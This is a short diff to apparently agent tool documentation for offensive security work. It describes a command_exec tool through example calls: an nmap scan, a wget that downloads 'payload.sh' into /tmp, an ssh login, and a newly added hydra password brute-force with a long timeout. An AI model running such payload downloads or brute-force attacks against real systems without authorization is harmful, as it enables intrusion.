@@ -36,6 +36,7 @@ For tasks that can run independently and concurrently (like multiple scans, down
 - `command_exec(session_id, "nmap -sV target.com")`
 - `command_exec(session_id, "cd /tmp && wget https://file.com/payload.sh")`
 - `command_exec(session_id, "ssh -o HostKeyAlgorithms=+ssh-rsa user@target")`
+- Long-running command: `command_exec(session_id, "hydra ...", timeout=3600)` - commands are interrupted after a default limit (600s) and the partial output is returned; the session stays usable
 
 ### kill_session(session_id)
 **When to use**: Clean up completed tasks, manage resource usage